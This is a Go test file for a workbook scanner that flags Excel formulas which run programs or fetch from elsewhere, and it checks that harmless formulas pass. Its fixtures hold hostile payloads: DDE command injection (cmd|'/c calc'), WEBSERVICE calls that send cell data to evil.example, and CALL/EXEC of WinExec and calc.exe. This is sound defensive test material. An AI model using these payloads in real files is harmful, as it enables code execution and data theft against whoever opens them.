package filetype

import (
	"bytes"
	"encoding/base64"
	"math/rand/v2"
	"strings"
	"testing"
)

// TestWorkbookFormulas: a workbook's formulas are read where Excel reads
// them (cells, shared formulas, conditional formats, validations,
// defined names, form controls, in a sheet part of any name) and one
// that runs a program or fetches from elsewhere is a finding that
// blocks keeping it: DDE, WEBSERVICE, IMAGE, RTD, CALL, REGISTER, EXEC,
// another workbook's cells, with the function's name in any case, after
// blanks and _xlfn. A HYPERLINK is a link as a Word field's is. Strings,
// tables' structured references and a workbook's own sheets are not
// findings; a part that does not read as XML is not inspected.
func TestWorkbookFormulas(t *testing.T) {
	const sheet = "xl/worksheets/sheet1.xml"
	runs := func(what string) []string { return []string{RunningFormula + " (" + what + ") in " + sheet} }
	notInspected := func(why string) []string { return []string{"office: formulas not inspected " + sheet + ": " + why} }
	var cases []classifyCase
	for _, c := range []struct {
		name, formula string
		findings      []string
	}{
		{"DDE", `cmd|'/c calc'!A1`, runs("DDE")},
		{"DDE through a path", `MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc'!A1`, runs("DDE")},
		{"DDE in a sum", `SUM(1,msexcel|'x'!_xlbgnm.A1)`, runs("DDE")},
		{"WEBSERVICE", `_xlfn.WEBSERVICE("http://evil.example/?"&A2)`, runs("WEBSERVICE")},
		{"FILTERXML of WEBSERVICE", `_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://evil.example/x"),"//a")`, runs("WEBSERVICE")},
		{"webservice in lower case, a blank before (", `webservice ("http://evil.example/x")`, runs("WEBSERVICE")},
		{"IMAGE", `_xlfn.IMAGE("https://evil.example/p.png")`, runs("IMAGE")},
		{"RTD", `RTD("evil.server","host.example","topic")`, runs("RTD")},
		{"CALL", `CALL("kernel32","WinExec","JCJ","calc.exe",0)`, runs("CALL")},
		{"REGISTER", `REGISTER("kernel32","WinExec","JCJ")`, runs("REGISTER")},
		{"EXEC", `EXEC("calc.exe")`, runs("EXEC")},
		{"another workbook by its link", `[1]Sheet1!A1+1`, runs("another workbook")},
		{"another workbook on a share", `'\\evil.example\s\[b.xlsx]Sheet1'!A1`, runs("another workbook")},
		{"another workbook on the web", `SUM('http://evil.example/[b.xlsx]Sheet1'!A1:B2)`, runs("another workbook")},
		{"another workbook by a path", `C:\dir\[b.xlsx]Sheet1!A1`, runs("another workbook")},
		{"a name in another workbook on a share", `SUM('\\evil.example\s\b.xlsx'!Sales)`, runs("another workbook")},
		{"a name in another workbook on the web", `'https://evil.example/b.xlsx'!Sales*2`, runs("another workbook")},
		{"WEBSERVICE after a quote in a column's name", `SUM(Table1[[a'b]])+WEBSERVICE("http://evil.example/")&'c'!A1`, runs("WEBSERVICE")},
		{"WEBSERVICE after a double quote in a column's name", `SUM(Table1[a"b])+WEBSERVICE("http://evil.example/")&"c"`, runs("WEBSERVICE")},
		{"HYPERLINK to a share", `HYPERLINK("\\evil.example\s\x.xlsx","open")`, []string{"office: link to a network share (UNC path) in " + sheet}},
		{"HYPERLINK to a program", `HYPERLINK("file:///C:/Windows/System32/cmd.exe")`, []string{"office: link to a file (file:) in " + sheet}},
		{"HYPERLINK to a cell's value", `HYPERLINK(B1,"open")`, notInspected("a HYPERLINK whose target is computed")},
		{"HYPERLINK to mailto and a cell's value", `HYPERLINK("mailto:"&B1)`, notInspected("a HYPERLINK whose target is computed")},
	} {
		cases = append(cases, classifyCase{name: c.name, data: xlsx(t, "", cellFormula(c.formula)), filename: "a.xlsx",
			class: ClassOffice, sniffed: mimeXlsx, findings: c.findings})
	}
	for _, c := range []struct{ name, formula string }{
		{"sum", `SUM(A1:A3)*2`},
		{"another sheet", `VLOOKUP(A1,'売上 2024'!A:B,2,FALSE)+Sheet2!B1`},
		{"structured references", `SUM(Table1[[#This Row],[Qty]:[Price]])+売上[金額]+Table1[@Qty]+Table1['[x']]+Table1[Price(円)]`},
		{"strings", `"a|b"&"[1]Sheet1!A1"&"WEBSERVICE("`},
		{"names like those", `MYCALL(1)+RECALL+IMAGES`},
		{"XLOOKUP", `_xlfn.XLOOKUP(A1,B:B,C:C)`},
		{"HYPERLINK to a place in the workbook", `HYPERLINK("#'Sheet 2'!A1","go")`},
		{"HYPERLINK to the web", `HYPERLINK("https://www.city.example.lg.jp/","市")`},
		{"HYPERLINK to the web with a cell's value", `HYPERLINK("https://www.city.example.lg.jp/?id="&A1)`},
	} {
		cases = append(cases, classifyCase{name: c.name, data: xlsx(t, "", cellFormula(c.formula)), filename: "a.xlsx",
			class: ClassOffice, sniffed: mimeXlsx, clean: true})
	}
	macroSheet := []byte(`<?xml version="1.0"?><xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>HALT()</f></c></row></sheetData></xm:macrosheet>`)
	cases = append(cases,
		classifyCase{name: "shared formula", data: xlsx(t, "", `<row r="1"><c r="A1"><f t="shared" ref="A1:A9" si="0">_xlfn.WEBSERVICE(B1)</f></c><c r="A2"><f t="shared" si="0"/></c></row>`), filename: "a.xlsx",
			class: ClassOffice, findings: runs("WEBSERVICE")},
		classifyCase{name: "character references", data: xlsx(t, "", `<row r="1"><c r="A1"><f>&#87;EBSERVICE(&quot;http://evil.example/&quot;)</f></c></row>`), filename: "a.xlsx",
			class: ClassOffice, findings: runs("WEBSERVICE")},
		classifyCase{name: "conditional format", data: xlsx(t, "", `</sheetData><conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>cmd|'/c calc'!A1</formula></cfRule></conditionalFormatting><sheetData>`), filename: "a.xlsx",
			class: ClassOffice, findings: runs("DDE")},
		classifyCase{name: "data validation", data: xlsx(t, "", `</sheetData><dataValidations count="1"><dataValidation type="list" sqref="A1"><formula1>'\\evil\s\[b.xlsx]L'!A1:A3</formula1></dataValidation></dataValidations><sheetData>`), filename: "a.xlsx",
			class: ClassOffice, findings: runs("another workbook")},
		classifyCase{name: "defined name", data: xlsx(t, `<definedNames><definedName name="Auto_Open">EXEC("calc.exe")</definedName></definedNames>`, ""), filename: "a.xlsx",
			class: ClassOffice, findings: []string{RunningFormula + " (EXEC) in xl/workbook.xml"}},
		classifyCase{name: "form control", data: xlsx(t, "", "", deflate("xl/ctrlProps/ctrlProp1.xml", []byte(`<formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" objectType="Drop" fmlaRange="cmd|'/c calc'!A1"/>`))), filename: "a.xlsx",
			class: ClassOffice, findings: []string{RunningFormula + " (DDE) in xl/ctrlProps/ctrlProp1.xml"}},
		classifyCase{name: "shape's text from another workbook", data: xlsx(t, "", "", deflate("xl/drawings/drawing1.xml", []byte(`<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"><xdr:twoCellAnchor><xdr:sp macro="" textlink="'\\evil\s\[b.xlsx]S'!A1"/></xdr:twoCellAnchor></xdr:wsDr>`))), filename: "a.xlsx",
			class: ClassOffice, findings: []string{RunningFormula + " (another workbook) in xl/drawings/drawing1.xml"}},
		classifyCase{name: "legacy form control", data: xlsx(t, "", "", deflate("xl/drawings/vmlDrawing1.vml", []byte(`<xml xmlns:x="urn:schemas-microsoft-com:office:excel"><x:ClientData ObjectType="Button"><x:FmlaMacro>[1]!Run</x:FmlaMacro><br></x:ClientData></xml>`))), filename: "a.xlsx",
			class: ClassOffice, findings: []string{RunningFormula + " (another workbook) in xl/drawings/vmlDrawing1.vml"}},
		classifyCase{name: "prefixed elements", data: xlsx(t, "", "", deflate("xl/worksheets/sheet2.xml", []byte(`<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:sheetData><x:row r="1"><x:c r="A1"><x:f
>RTD("x",,"y")</x:f></x:c></x:row></x:sheetData></x:worksheet>`))), filename: "a.xlsx",
			class: ClassOffice, findings: []string{RunningFormula + " (RTD) in xl/worksheets/sheet2.xml"}},
		classifyCase{name: "sheet part of another name", data: xlsx(t, "", "", deflate("xl/data/s.xml", []byte(`<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>RTD("x",,"y")</f></c></row></sheetData></worksheet>`))), filename: "a.xlsx",
			class: ClassOffice, findings: []string{RunningFormula + " (RTD) in xl/data/s.xml"}},
		classifyCase{name: "macro sheet, not declared", data: xlsx(t, "", "", deflate("xl/macrosheets/sheet1.xml", macroSheet)), filename: "a.xlsx",
			class: ClassOffice, sniffed: mimeXlsm, findings: []string{"office: macros"}},
		classifyCase{name: "macro sheet of another name, not declared", data: xlsx(t, "", "", deflate("xl/worksheets/sheet2.xml", macroSheet)), filename: "a.xlsx",
			class: ClassOffice, sniffed: mimeXlsm, findings: []string{"office: macros"}},
		// Read as a Word part is (TestOOXMLPartEncodings): OPC allows it.
		classifyCase{name: "UTF-16 sheet", data: xlsx(t, "", "", deflate("xl/worksheets/sheet2.xml", utf16LE(`<?xml version="1.0" encoding="UTF-16"?><worksheet/>`))), filename: "a.xlsx",
			class: ClassOffice, clean: true},
		classifyCase{name: "sheet with a DTD", data: xlsx(t, "", "", deflate("xl/worksheets/sheet2.xml", []byte(`<!DOCTYPE w [<!ENTITY e "WEBSERVICE">]><worksheet><sheetData><row><c><f>&e;("http://x/")</f></c></row></sheetData></worksheet>`))), filename: "a.xlsx",
			class: ClassOffice, findings: []string{"office: formulas not inspected xl/worksheets/sheet2.xml: DTD"}},
		classifyCase{name: "formulas as text, images and a legacy drawing", data: xlsx(t, "", `<row r="1"><c r="A1" t="inlineStr"><is><t>=WEBSERVICE("http://x/")</t></is></c><c r="B1"><f>SUM(1)</f></c></row>`,
			deflate("xl/media/image1.png", pngImage(t)), deflate("xl/drawings/vmlDrawing1.vml", []byte(`<xml xmlns:x="urn:schemas-microsoft-com:office:excel"><x:ClientData ObjectType="Note"><x:Row>0</x:Row><br></x:ClientData></xml>`))), filename: "a.xlsx",
			class: ClassOffice, sniffed: mimeXlsx, clean: true},
	)
	runClassify(t, cases)
}

// TestWorkbookHyperlinksCounted: the web links of a workbook's HYPERLINK
// formulas are counted as links left clickable, each target once.
func TestWorkbookHyperlinksCounted(t *testing.T) {
	data := xlsx(t, "", cellFormula(`HYPERLINK("https://www.city.example.lg.jp/a")&HYPERLINK("https://www.city.example.lg.jp/b")&HYPERLINK("https://www.city.example.lg.jp/a")`))
	res, err := Classify(bytes.NewReader(data), int64(len(data)), "", "a.xlsx", Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Links != 2 {
		t.Errorf("Links = %d, want 2 (findings %q)", res.Links, res.Findings)
	}
}

// TestFormulaMarksAcrossReads: a mark cut by the boundary of two reads
// is found, and a part without one is not parsed.
func TestFormulaMarksAcrossReads(t *testing.T) {
	for _, mark := range []string{"<f>", "<x:f ", "Formula1", "<!DOCTYPE"} {
		for at := 32<<10 - 8; at < 32<<10+24; at++ {
			part := "<w>" + strings.Repeat(" ", at-3) + mark + "</w>"
			n, marked, err := scanMarks(strings.NewReader(part), false, hasFormulaMark)
			if !marked || err != nil || n != int64(len(part)) {
				t.Fatalf("%q at %d: marked %v, %d bytes, %v", mark, at, marked, n, err)
			}
		}
	}
	for _, part := range []string{"<w><fx/><a:fill/><c>f></c></w>", "\x89PNG <f>", ""} {
		if _, marked, err := scanMarks(strings.NewReader(part), false, hasFormulaMark); marked || err != nil {
			t.Errorf("%q: marked %v, %v", part, marked, err)
		}
	}
}

// TestExternalLinkRead: a workbook's external link part is read as
// Excel reads it, with an XML parser: a link to another program (DDE,
// cmd|'/c calc') or an OLE object in a UTF-16 part, or past the first
// MiB, was no finding, as the part's bytes were searched for "<ddelink"
// as they were, and only its first MiB (red team). A part that does not
// read as XML, or is too big to read whole, is not inspected.
func TestExternalLinkRead(t *testing.T) {
	const (
		ns  = `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"`
		dde = `<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>`
	)
	// Padding that does not compress, so no ratio limit stops the read.
	noise, r := make([]byte, 800<<10), rand.New(rand.NewPCG(1, 2))
	for i := range noise {
		noise[i] = byte(r.Uint64())
	}
	padded := `<?xml version="1.0"?><!--` + base64.StdEncoding.EncodeToString(noise) + `--><externalLink ` + ns + `>` + dde + `</externalLink>`
	link := func(b []byte) []byte { return xlsx(t, "", "", deflate("xl/externalLinks/externalLink1.xml", b)) }
	cases := []classifyCase{
		{name: "DDE to cmd in a UTF-16 part", filename: "a.xlsx",
			data:  link(utf16LE(`<?xml version="1.0" encoding="UTF-16"?><externalLink ` + ns + `>` + dde + `</externalLink>`)),
			class: ClassOffice, sniffed: mimeXlsx, findings: []string{"office: external reference ddelink in xl/externalLinks/externalLink1.xml"}},
		{name: "OLE link under a prefix", filename: "a.xlsx",
			data:  link([]byte(`<x:externalLink xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:oleLink progId="Package" r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></x:externalLink>`)),
			class: ClassOffice, sniffed: mimeXlsx, findings: []string{"office: external reference olelink in xl/externalLinks/externalLink1.xml"}},
		{name: "DDE past the first MiB", filename: "a.xlsx",
			data:  link([]byte(padded)),
			class: ClassOffice, sniffed: mimeXlsx, findings: []string{"office: external link not inspected xl/externalLinks/externalLink1.xml: over 1048576 bytes"}},
		{name: "a DTD", filename: "a.xlsx",
			data:  link([]byte(`<!DOCTYPE externalLink [<!ENTITY d "x">]><externalLink ` + ns + `/>`)),
			class: ClassOffice, sniffed: mimeXlsx, findings: []string{"office: external link not inspected xl/externalLinks/externalLink1.xml: DTD"}},
		{name: "clean, another workbook's cached values", filename: "a.xlsx",
			data:  link([]byte(`<externalLink ` + ns + `><externalBook><sheetNames><sheetName val="ddeLink"/></sheetNames></externalBook></externalLink>`)),
			class: ClassOffice, sniffed: mimeXlsx, clean: true},
	}
	runClassify(t, cases)
}

// TestContainsFold holds the mark search to bytes.Contains over the
// lower-cased bytes, on random text of the marks' letters in both cases
// and of bytes one bit from them ('@' is '`' without 0x20).
func TestContainsFold(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	const alphabet = "instrINSTRfldcharFLDCHAR@`[{ <>\x00\xff"
	for _, m := range []string{"instr", "fldchar", "formula", "fmla", "definedname", "macro", "textlink", "i"} {
		for range 3000 {
			b := make([]byte, r.IntN(40))
			for i := range b {
				b[i] = alphabet[r.IntN(len(alphabet))]
			}
			if r.IntN(4) == 0 && len(b) > len(m) {
				at := r.IntN(len(b) - len(m) + 1)
				for i := range len(m) {
					c := m[i]
					if r.IntN(2) == 0 {
						c -= 0x20
					}
					b[at+i] = c
				}
			}
			if got, want := containsFold(b, m), bytes.Contains(bytes.ToLower(b), []byte(m)); got != want {
				t.Fatalf("containsFold(%q, %q) = %v, want %v", b, m, got, want)
			}
		}
	}
}

// TestWorkbookFormulaAddInCalls: a call into an add-in's code is a
// formula that runs: Excel writes a call to a function an XLL registered
// with the _xll. prefix (_xll.BDP(...), Bloomberg's), and one to a
// user-defined function whose name a later Excel took with _xludf., and
// either calls native or VBA code the package does not hold, with the
// arguments the sender chose. Names that merely hold those letters are
// not calls into an add-in.
func TestWorkbookFormulaAddInCalls(t *testing.T) {
	const sheet = "xl/worksheets/sheet1.xml"
	runs := func(what string) []string { return []string{RunningFormula + " (" + what + ") in " + sheet} }
	var cases []classifyCase
	for _, c := range []struct {
		name, formula string
		findings      []string
	}{
		{"XLL function", `_xll.MyFunc(A1)`, runs("XLL add-in")},
		{"XLL function in upper case, a blank before (", `SUM(1,_XLL.BDP ("x","PX_LAST"))`, runs("XLL add-in")},
		{"XLL function after _xlfn.", `_xlfn._xll.MyFunc(A1)`, runs("XLL add-in")},
		{"user-defined function", `_xludf.CONCAT(A1,B1)`, runs("user-defined function")},
		{"WEBSERVICE after _xlws.", `_xlws.WEBSERVICE("http://evil.example/")`, runs("WEBSERVICE")},
	} {
		cases = append(cases, classifyCase{name: c.name, data: xlsx(t, "", cellFormula(c.formula)), filename: "a.xlsx",
			class: ClassOffice, sniffed: mimeXlsx, findings: c.findings})
	}
	for _, c := range []struct{ name, formula string }{
		{"names holding _xll", `my_xll.x+_xll+"_xll.F(1)"`},
		{"a defined name, not called", `SUM(_xll.Rates)`},
	} {
		cases = append(cases, classifyCase{name: c.name, data: xlsx(t, "", cellFormula(c.formula)), filename: "a.xlsx",
			class: ClassOffice, sniffed: mimeXlsx, clean: true})
	}
	runClassify(t, cases)
}

// TestWorkbookFormulaUnquotedPaths: a reference to another workbook
// written without quotes, by a path or a URL, is a reference to another
// workbook, as one in quotes is. Office writes them as [1]Sheet1!A1
// (MS-OI29500 2.1.863), but a sender writes the XML: a sheet's name
// cannot hold \ (nor an unquoted one / or :), so a name with \ before
// "!", or ":/" or "//" outside a string, is a path or a URL.
// Another sheet, quoted or not, a range and a division are not.
func TestWorkbookFormulaUnquotedPaths(t *testing.T) {
	const sheet = "xl/worksheets/sheet1.xml"
	other := []string{RunningFormula + " (another workbook) in " + sheet}
	var cases []classifyCase
	for _, c := range []struct{ name, formula string }{
		{"a drive path and a book", `C:\x\[b.xlsx]S!A1`},
		{"a share and a book", `\\srv\s\[b.xlsx]S!A1`},
		{"the web and a book", `https://evil.example/[b.xlsx]S!A1`},
		{"a name in a book on a drive", `SUM(C:\x\b.xlsx!Sales)`},
		{"a name in a book on a share", `\\evil.example\s\b.xlsx!Sales*2`},
		{"a name in a book on the web", `https://evil.example/b.xlsx!Sales`},
		{"a name in a book by file:", `file:///C:/x/b.xlsx!Sales`},
		{"a drive path with slashes", `C:/x/b.xlsx!Sales`},
		{"a share with slashes", `//evil.example/s/b.xlsx!Sales`},
		{"a relative path", `..\b.xlsx!Sales`},
		{"a share and a book named with a hyphen", `\\evil.example\s\q-1.xlsx!Sales`},
		{"a drive path and a book named with a space", `SUM('x'!A1,C:\d\my book.xlsx!Sales)`},
		{"a drive's root and a book named with a hyphen", `C:\b-c.xlsx!Sales`},
		{"a drive's root after an operator", `1+d:\b-c.xlsx!Sales`},
	} {
		cases = append(cases, classifyCase{name: c.name, data: xlsx(t, "", cellFormula(c.formula)), filename: "a.xlsx",
			class: ClassOffice, sniffed: mimeXlsx, findings: other})
	}
	for _, c := range []struct{ name, formula string }{
		{"another sheet", `Sheet1!A1+'It''s'!A1+'売上 2024'!B2`},
		{"3-D reference and a range", `SUM(Sheet1:Sheet3!A1:B2)`},
		{"division by another sheet", `A1/Sheet2!B1`},
		{"a name starting with \\", `\Rate*2+Sheet2!\Rate`},
		{"a range to a name starting with \\", `SUM(A1:\End)+SUM($A$1:\End)+SUM(AB1:\End)`},
		{"a path in a string", `"C:\x\b.xlsx!A1"&"https://x/"`},
		{"a URL in a column's name", `SUM(Table1[http://x])`},
	} {
		cases = append(cases, classifyCase{name: c.name, data: xlsx(t, "", cellFormula(c.formula)), filename: "a.xlsx",
			class: ClassOffice, sniffed: mimeXlsx, clean: true})
	}
	runClassify(t, cases)
}
